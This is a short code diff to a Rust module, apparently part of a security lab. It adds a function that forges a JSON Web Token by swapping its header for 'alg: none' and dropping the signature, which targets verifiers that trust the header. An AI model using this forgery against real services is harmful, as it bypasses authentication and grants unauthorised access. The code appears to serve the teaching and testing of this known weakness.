@@ -130,6 +130,14 @@ pub fn forge(token: &str, payload_json: &str) -> Result<String, String> {
     ))
 }
 
+/// The same payload under a header that says `alg: none`, with no signature: the forgery a
+/// verifier that believes the header accepts (the lab's `alg-none` weakness).
+pub fn forge_alg_none(token: &str) -> Result<String, String> {
+    let d = decode(token)?;
+    let header = URL_SAFE_NO_PAD.encode(r#"{"alg":"none","typ":"JWT"}"#);
+    Ok(format!("{header}.{}.", d.parts[1]))
+}
+
 /// "in 12 min" / "3 min ago" for a timestamp against `now`.
 pub fn relative(t: i64, now: i64) -> String {
     let d = t - now;
